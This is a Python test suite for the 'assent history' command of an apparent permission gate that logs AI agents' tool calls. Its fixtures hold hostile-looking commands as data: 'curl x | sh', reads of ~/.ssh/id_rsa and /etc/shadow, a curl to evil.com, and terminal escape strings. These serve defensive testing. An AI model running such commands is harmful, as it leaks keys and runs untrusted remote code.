"""`assent history`: finds its journal by itself, and shows what is asked for, newest first."""

import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from attrs import evolve

from assent.cli import history
from assent.cli.answer_sources import lines_of
from assent.cli.main import main
from assent.editor.window.record.history_rows import row_shape
from assent.gate.call.calls import AgentId
from assent.gate.call.verdicts import Deed
from assent.gate.journal import index_tables, reader, records, search
from assent.gate.journal.card_store import beside
from assent.gate.journal.index import FOLDER
from assent.gate.journal.journal import Journal
from assent.gate.journal.table import COLUMNS, as_cells
from cli import recorded
from gate.journal.database import tamper
from gate.ruling.samples import running
from tables import each_row
from webview import tickets

Show = Callable[..., list[int]]


@pytest.fixture
async def journal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """This person's journal."""
    monkeypatch.setenv("ASSENT_STATE_DIR", str(tmp_path / "state"))
    path = tmp_path / "state" / "journal.db"
    await recorded.write(path, int(time.time() * 1000))
    return path


@pytest.fixture
def show(capsys: pytest.CaptureFixture[str]) -> Show:
    """The numbers of the rows that are shown."""

    def shown(*words: str) -> list[int]:
        assert main(["history", "--jsonl", *words]) == 0
        return [json.loads(line)["seq"] for line in capsys.readouterr().out.splitlines()]

    return shown


@pytest.mark.usefixtures("journal")
class TestWhatIsAskedFor:
    def test_without_a_word_all_are_shown_the_newest_first(self, show: Show) -> None:
        assert show() == [6, 5, 4, 3, 2, 1]
        assert show("--last", "2") == [6, 5]

    @pytest.mark.parametrize(
        ("words", "rows"),
        [
            ("--since 2h30m", None),
            ("--since 150m", [6, 5, 4]),
            ("--since 2d", [6, 5, 4, 3]),
            ("--since 2020-01-01", [6, 5, 4, 3, 2, 1]),
            ("--agent claude", [3, 2, 1]),
            ("--agent CLAUDE", [3, 2, 1]),
            ("--agent claud", []),
            ("--denied", [5, 2]),
            ("--verdict denied", [5, 2]),
            ("--verdict allowed", [6, 4, 3]),
            ("--verdict asked", [1]),
            ("--by rule", [2]),
            ("--by mode", [6, 4]),
            ("--tool fetch", [5]),
            ("--rule push", [2]),
            ("--rule %", []),
            ("--path /home/me/app/src/a.py", [4]),
            ("--path /home/me/app/src", [6, 4]),
            ("--path /home/me/ap", []),
            ("--path /home/me/app", [6, 4, 3, 2, 1]),
            ("--path /tmp/out", [6]),
            ("--host docs.example.com", [5]),
            ("--host EXAMPLE.com", [5]),
            ("--host https://docs.example.com:8443/b", [5]),
            ("--host ample.com", []),
            ("--text push", [3, 2, 1]),
            ("--text orig", [3, 2, 1]),
            ("--text rigin", []),
            ("--text src/b.py", [6]),
            ('--text a"b', []),
            ("--agent codex --denied", [5]),
            ("--since 2d --agent claude --verdict allowed --by user --text main", [3]),
            ("--agent claude --tool fetch", []),
            ("--denied --last 1", [5]),
            ("--workspace /home/me/app", [6, 3, 2, 1]),
            ("--workspace /home/me/ap", []),
        ],
    )
    def test_filters_say_which_rows_fit_and_all_must(
        self, show: Show, words: str, rows: list[int] | None
    ) -> None:
        if rows is None:
            with pytest.raises(SystemExit, match="2"):
                show(*words.split(" "))
        else:
            assert show(*words.split(" ")) == rows

    @pytest.mark.parametrize(
        "words",
        [
            "--since soon",
            "--verdict maybe",
            "--by me",
            "--text &&",
            "--last 0",
            "--last -1",
            "--show 2 --denied",
            "--show 2 --csv",
        ],
    )
    def test_what_cannot_be_meant_is_said(
        self, words: str, capsys: pytest.CaptureFixture[str]
    ) -> None:
        with pytest.raises(SystemExit, match="2"):
            main(["history", *words.split(" ")])
        assert "error:" in capsys.readouterr().err

    def test_that_nothing_fits_is_said(self, capsys: pytest.CaptureFixture[str]) -> None:
        assert main(["history", "--agent", "nobody"]) == 0
        assert capsys.readouterr() == ("", "No row fits.\n")

    def test_each_filter_is_an_option_and_each_needs_a_table_that_can_be_filled(self) -> None:
        options = vars(history._parser().parse_args([]))
        assert set(search.FILTERS) == set(options) - {
            "journal", "all", "last", "show", "jsonl", "csv",
        }  # fmt: skip
        assert {it.table for it in search.FILTERS.values()} == set(index_tables.FILLS)
        assert {*index_tables.SAID} - {"kind", "call", "place"} <= set(search.FILTERS)


@pytest.mark.usefixtures("show")
def test_the_current_folder_leads_to_the_same_place_through_a_link(
    journal: Path, tmp_path: Path, show: Show
) -> None:
    assert journal.exists()
    (tmp_path / "link").symlink_to("/home/me/app")
    assert show("--path", str(tmp_path / "link" / "src")) == [6, 4]


def test_what_of_a_pasted_command_has_no_letter_is_passed_over(journal: Path, show: Show) -> None:
    assert journal.exists()
    assert show("--text", "b.py") == show("--text", "&& b.py |") == [6]


async def test_rows_that_came_since_are_found_too(journal: Path, show: Show) -> None:
    for table in ("--agent codex", "--text b.py", "--path /tmp/out"):
        assert 6 in show(*table.split(" "))
    await recorded.write(journal, int(time.time() * 1000))
    assert show("--by", "rule") == [8, 2]
    assert show("--text", "b.py") == [12, 6]
    assert show("--path", "/tmp/out") == [12, 6]


async def test_another_journal_in_its_place_is_looked_up_anew(journal: Path, show: Show) -> None:
    assert show("--denied") == [5, 2]
    for path in journal.parent.glob("journal.db*"):
        path.unlink()
    await recorded.write(journal, int(time.time() * 1000) + 1)
    tamper(journal, "delete from entries where seq > 4")
    assert show("--denied") == [2]


def test_an_index_that_is_damaged_or_cannot_be_had_changes_nothing(
    journal: Path, show: Show
) -> None:
    index = journal.parent / FOLDER / journal.name
    assert show("--denied") == [5, 2]
    assert index.stat().st_mode & 0o077 == 0
    index.write_bytes(b"no database at all" * 1_000)
    assert show("--denied") == [5, 2]
    assert show("--denied") == [5, 2]
    assert index.read_bytes()[:6] == b"SQLite"
    shutil.rmtree(index.parent)
    index.parent.mkdir()
    index.symlink_to(journal)
    before = journal.read_bytes()
    assert show("--denied") == [5, 2]
    assert journal.read_bytes() == before


def test_a_journal_of_somebody_else_is_looked_up_where_nothing_can_be_written(
    journal: Path, tmp_path: Path, show: Show, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = tmp_path / "copy" / "mine.db"
    other.parent.mkdir()
    shutil.copyfile(journal, other)
    monkeypatch.setenv("ASSENT_STATE_DIR", str(tmp_path / "none"))
    (other.parent / FOLDER).touch()
    assert show("--denied", str(other)) == [5, 2]


def test_journals_that_were_set_aside_are_shown_where_all_are_asked_for(
    journal: Path, show: Show
) -> None:
    aside = journal.with_name("journal-2026-11-20-101112.db")
    shutil.copyfile(journal, aside)
    shutil.copyfile(journal, journal.with_name("journal-of-mine.db"))
    assert show("--denied") == [5, 2]
    assert show("--denied", "--all") == [5, 2, 5, 2]
    assert show("--all", "--last", "7") == [6, 5, 4, 3, 2, 1, 6]


class TestWhatCannotBeRead:
    @pytest.fixture(autouse=True)
    def _impatient(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(reader, "_LOCK_TIMEOUT_S", 0.01)

    def _says(
        self, path: Path, capsys: pytest.CaptureFixture[str], words: str, verify: int = 1
    ) -> None:
        for command in (["history"], ["history", "--denied"], ["verify"]):
            assert main([*command, str(path)]) == (verify if command == ["verify"] else 1)
            told = capsys.readouterr()
            (line,) = [it for it in (told.out + told.err).splitlines() if str(path) in it]
            assert words in line
            assert line.endswith(".")

    def test_one_that_is_not_there(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        self._says(tmp_path / "none.db", capsys, "nothing was decided yet", verify=2)

    def test_a_folder_and_a_pipe(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self._says(tmp_path, capsys, "it is a directory")
        os.mkfifo(tmp_path / "pipe")
        self._says(tmp_path / "pipe", capsys, "it is no ordinary file")

    def test_what_is_no_database(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        (tmp_path / "text").write_bytes(b"no database at all" * 1_000)
        self._says(tmp_path / "text", capsys, "it is damaged, or no database")
        (tmp_path / "empty").touch()
        self._says(tmp_path / "empty", capsys, "has no row yet", verify=2)

    def test_one_that_others_keep_locked(
        self, journal: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        other = sqlite3.connect(journal, isolation_level=None)
        try:
            other.execute("pragma locking_mode = exclusive")
            other.execute("begin exclusive")
            self._says(journal, capsys, "another program keeps it locked", verify=2)
        finally:
            other.close()

    def test_one_of_another_version(
        self, journal: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        tamper(journal, "alter table entries add column more")
        self._says(journal, capsys, "another version of Assent")

    def test_one_that_they_may_not_read(
        self, journal: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def refused(_: object) -> None:
            raise PermissionError(13, "Permission denied")

        # Whoever runs tests as root may read everything.
        monkeypatch.setattr(reader, "opened", refused)
        self._says(journal, capsys, "permission denied", verify=2)


def test_a_row_that_somebody_made_unreadable_is_still_a_row(journal: Path, show: Show) -> None:
    tamper(journal, "update entries set body = 'no json' where seq = 5")
    assert show() == [6, 5, 4, 3, 2, 1]
    assert show("--denied") == [2]
    assert show("--text", "push") == [3, 2, 1]


@pytest.mark.parametrize(
    "change",
    [
        "update entries set at = 'abc' where seq = 5",
        "update entries set at = x'ff' where seq = 5",
        "update entries set agent = x'ff00' where seq = 5",
        "update entries set body = x'ff00' where seq = 5",
        "update entries set kind = x'ff' where seq = 5",
        "update entries set body = '[' where seq = 5",
        "update entries set body = replace(body, 'user', '\\ud800') where seq = 5",
        "update entries set body = json_set(body, '$.rule', 7, '$.input', 8) where seq = 5",
    ],
)
@pytest.mark.parametrize("form", ["--jsonl", "--csv", "--last 9"])
def test_a_row_that_holds_anything_ends_nothing(
    journal: Path, change: str, form: str, capsys: pytest.CaptureFixture[str]
) -> None:
    tamper(journal, change)
    for asked in ("", "--since 2d", "--text push", "--path /tmp/out", "--rule push", "--agent x"):
        assert main(["history", *form.split(), *asked.split()]) == 0
    assert main(["insights"]) == 0
    capsys.readouterr()
    assert main(["verify"]) == 1
    assert "Row 5 was changed" in capsys.readouterr().out


def test_a_disk_that_is_full_is_said(journal: Path) -> None:
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "assent", "history", str(journal)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
            timeout=60,
        )
    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
    assert "the disk is full" in done.stderr


def test_a_line_acts_on_no_terminal(journal: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tamper(journal, "update entries set agent = char(27) || '[2Jx' || char(10) where seq = 6")
    assert main(["history", "--last", "1"]) == 0
    (line,) = capsys.readouterr().out.splitlines()
    assert "\\u001b[2Jx" in line


def test_it_runs_as_a_command_beside_a_window_that_writes(journal: Path) -> None:
    writer = sqlite3.connect(journal, isolation_level=None)
    try:
        writer.execute("begin immediate")
        done = subprocess.run(
            [sys.executable, "-m", "assent", "history", "--denied", "--since", "2d"],
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )
    finally:
        writer.close()
    assert (done.returncode, done.stderr) == (0, "")
    assert "docs.Example.com" in done.stdout


@pytest.mark.parametrize("odd", ["\udcff", chr(0xD800)])
async def test_a_name_that_is_no_text_ends_no_search(
    tmp_path: Path, show: Show, odd: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "journal.db"
    named = evolve(running(f"cat {odd}.txt; curl https://example.com/{odd}"), cwd=f"/home/{odd}")
    journal = Journal(path=path, epoch="epoch-1", now=lambda: 1)
    for call in (named, running("make it-so")):
        await journal.keep(
            records.decided(call, None, outcome="allowed", by="user", because=f"{odd}.", rule=odd)
        )
    journal.close()
    for words in (
        ["--text", "txt"],
        ["--path", f"/home/{odd}/{odd}.txt"],
        ["--host", "example.com"],
        ["--workspace", f"/home/{odd}"],
    ):
        assert show(*words, str(path)) == [1], words
    assert show("--rule", odd, str(path)) == [2, 1]
    assert main(["history", "--csv", "--text", "txt", str(path)]) == 0
    assert main(["history", "--text", "txt", str(path)]) == 0
    assert "\\ud" in capsys.readouterr().out


async def test_a_row_is_found_by_what_the_ruling_found_and_older_ones_by_their_words(
    tmp_path: Path, show: Show
) -> None:
    path = tmp_path / "journal.db"
    key = "/home/ada/.ssh/id_rsa"
    deeds = (
        Deed(kind="read", what="~/.ssh/id_rsa", inside=False, lies=key),
        Deed(kind="network", what="Evil.com", inside=False),
    )
    plain = {"outcome": "allowed", "by": "user", "because": "You."}
    journal = Journal(path=path, epoch="epoch-1", now=lambda: 1)
    await journal.keep(records.asked(running("cat id"), "t1", "It reads a key.", deeds))
    await journal.keep(records.decided(running("cat id"), "t1", **plain, deeds=deeds))
    await journal.keep(records.decided(running(f"cat {key}"), None, **plain))
    url = "curl https://user:p@w@evil.com/x"
    await journal.keep(records.decided(running(url), None, **plain))
    many = "".join(f": {'x ' * 600};cat {key}")
    await journal.keep(records.decided(running(many), None, **plain))
    journal.close()
    assert show("--path", key, str(path)) == [5, 3, 2, 1]
    assert show("--path", "/home/ada/.ssh", str(path)) == [5, 3, 2, 1]
    assert show("--host", "evil.com", str(path)) == [4, 2, 1]


def test_what_lies_outside_is_kept_of_more_than_a_row_holds() -> None:
    near = [Deed(kind="read", what=f"{at}", lies=f"/home/ada/till/{at}") for at in range(2_000)]
    far = Deed(kind="read", what="/etc/shadow", inside=False, lies="/etc/shadow")
    entry = records.asked(running("cat *"), "t1", "It reads.", [*near, far])
    assert len(entry.body["files"]) == 1_000
    assert entry.body["files"][0] == "/etc/shadow"


@pytest.mark.parametrize(
    "change",
    [
        ["delete from said where verdict = 'refused'"],
        ["update said set verdict = 'allowed'"],
        ["create trigger t after insert on said begin select 1; end", "delete from said"],
        ["drop table marks", "create view marks as select '' as mark, 0 as seq"],
        ["drop table words"],
        ["drop table told"],
        ["drop table names"],
        ["insert into words (words, rowid, text) values ('delete', 3, 'git push origin main')"],
        ["pragma journal_mode = wal", "delete from said"],
    ],
)
async def test_an_index_that_somebody_else_wrote_into_is_made_anew(
    journal: Path, show: Show, change: list[str]
) -> None:
    def shown() -> list[list[int]]:
        asked = ("--denied", "--text push", "--path /tmp/out", "--rule push")
        return [show(*words.split(" ")) for words in asked]

    before = shown()
    assert before == [[5, 2], [3, 2, 1], [6], [2]]
    kept = journal.parent / FOLDER / journal.name
    other = sqlite3.connect(kept, isolation_level=None)
    for statement in change:
        other.execute(statement)
    other.close()
    assert shown() == before
    made = kept.read_bytes()
    assert shown() == before
    assert kept.read_bytes() == made
    await recorded.write(journal, int(time.time() * 1000))
    assert show("--denied") == [11, 8, 5, 2]


def test_an_index_of_which_bytes_are_lost_is_told_and_made_anew(
    journal: Path, show: Show, capsys: pytest.CaptureFixture[str]
) -> None:
    assert show("--denied") == [5, 2]
    kept = journal.parent / FOLDER / journal.name
    data = bytearray(kept.read_bytes())
    for page in range(4096, len(data), 4096):
        data[page] = 99
    kept.write_bytes(data)
    assert main(["history", "--denied"]) in {0, 1}
    capsys.readouterr()
    assert show("--denied") == [5, 2]


def test_an_index_that_others_keep_is_asked_all_the_same(journal: Path, show: Show) -> None:
    assert show("--denied") == [5, 2]
    other = sqlite3.connect(journal.parent / FOLDER / journal.name, isolation_level=None)
    try:
        other.execute("begin immediate")
        assert show("--denied") == [5, 2]
    finally:
        other.close()


def test_a_link_in_the_place_of_the_folder_is_not_followed(
    journal: Path, tmp_path: Path, show: Show
) -> None:
    (tmp_path / "mine").mkdir(mode=0o755)
    (journal.parent / FOLDER).symlink_to(tmp_path / "mine")
    assert show("--denied") == [5, 2]
    assert list((tmp_path / "mine").iterdir()) == []
    assert (tmp_path / "mine").stat().st_mode & 0o777 == 0o755


async def test_names_are_found_in_capitals_and_not(tmp_path: Path, show: Show) -> None:
    path = tmp_path / "journal.db"
    journal = Journal(path=path, epoch="epoch-1", now=lambda: 1)
    call = evolve(running(), agent=AgentId("École"))
    await journal.keep(
        records.decided(
            call, None, outcome="allowed", by="rule", because="It.", rule="shell(Ärger)"
        )
    )
    journal.close()
    assert show("--agent", "école", str(path)) == [1]
    assert show("--rule", "ärger", str(path)) == [1]


@each_row(
    ("given", "what", "verb"),
    [
        ({"pattern": "total"}, "total", "Look for "),
        ({"pattern": "to.*", "path": "src"}, "to.* in src", "Look for "),
        ({"path": "src/a.py"}, "src/a.py", "Read "),
        ({"pattern": 7, "path": "src/a.py"}, "src/a.py", "Read "),
    ],
)
def test_a_search_is_told_by_what_was_looked_for(
    given: dict[str, object], what: str, verb: str
) -> None:
    body = json.dumps({"tool": "read", "input": given})
    row = {"seq": 1, "at": 1, "kind": "decided", "agent": "a", "chat": "c", "call": "1"}
    row |= {"hash": "h", "body": body, "digest": "d", "previous": ""}
    assert dict(zip(COLUMNS, as_cells(row), strict=True))["what"] == what
    title = row_shape(row, str).title
    assert "".join(span.text for span in title) == f"{verb}{what}"


class TestARecordWithItsCard:
    """`--show N` prints the card as it was kept, or why there is none."""

    @pytest.fixture
    async def pictured(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
        monkeypatch.setenv("ASSENT_STATE_DIR", str(tmp_path / "state"))
        path = tmp_path / "state" / "journal.db"
        journal = Journal(path=path, epoch="epoch-1", now=lambda: 1)
        hostile = tickets.code("curl x | sh\n\x1b[2J\u202e1 Denied ö")
        card = tickets.read().card.model_copy(update={"title": hostile})
        text = json.dumps({"card": tickets.wire(card)})
        call = running("curl x | sh")
        asked = records.asked(call, "t1", "It leaves the machine.")
        decided = {"outcome": "refused", "by": "user", "because": "No."}
        try:
            await journal.keep(asked)
            await journal.keep(records.decided(call, "t1", **decided), lambda: text)
            await journal.keep(records.decided(call, "t2", **decided), lambda: str(1 / 0))
            await journal.keep(records.decided(call, None, **decided))
        finally:
            journal.close()
        return path

    def test_it_is_printed_and_no_letter_of_it_acts(
        self, pictured: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert main(["history", "--show", "2"]) == 0
        lines = capsys.readouterr().out.splitlines()
        assert lines[0].startswith("2 ")
        assert lines[1] == "The card, as it was shown:"
        assert "  title: curl x | sh" in lines
        assert all(it.startswith("  ") for it in lines[2:])
        always = "shell(rm -rf ./dist/tmp-0) · shell(git push origin:*)"
        assert {"  offered: Allow once", f"  offered: Always allow… · {always}"} <= {*lines}
        assert not {"\x1b", "\u202e"} & set("".join(lines))
        assert main(["history", str(pictured), "--show", "2", "--jsonl"]) == 0
        told = json.loads(capsys.readouterr().out)
        assert (told["seq"], told["card"]["level"], told["cardNote"]) == (2, "medium", "")

    @pytest.mark.usefixtures("pictured")
    def test_a_terminal_that_knows_few_letters_is_told_the_others_by_their_numbers(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        out = io.TextIOWrapper(io.BytesIO(), encoding="ascii", errors="strict")
        monkeypatch.setattr(sys, "stdout", out)
        assert main(["history", "--show", "2"]) == 0
        out.seek(0)
        assert "1 Denied \\xf6" in out.read()

    def test_what_is_not_so_is_said_too(self) -> None:
        assert list(lines_of({"readable": False, "says": None})) == ["readable: False"]
        assert list(lines_of([{"text": "ls", "grave": False}])) == ["text: ls"]

    @pytest.mark.usefixtures("pictured")
    @pytest.mark.parametrize(
        ("number", "words"),
        [
            ("1", "Its card is kept with the decision: show that record."),
            ("3", "Its card could not be kept: division by zero."),
            ("4", "No card was shown of it."),
        ],
    )
    def test_why_there_is_none_is_said(
        self, number: str, words: str, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert main(["history", "--show", number]) == 0
        assert words in capsys.readouterr().out.splitlines()

    def test_a_card_that_does_not_fit_and_a_record_that_is_none_are_said(
        self, pictured: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        tamper(beside(pictured), "update pictures set picture = x'00'")
        assert main(["history", "--show", "2"]) == 0
        assert "not the one that was shown" in capsys.readouterr().out
        assert main(["history", "--show", "99"]) == 1
        assert capsys.readouterr().err == "There is no record 99.\n"
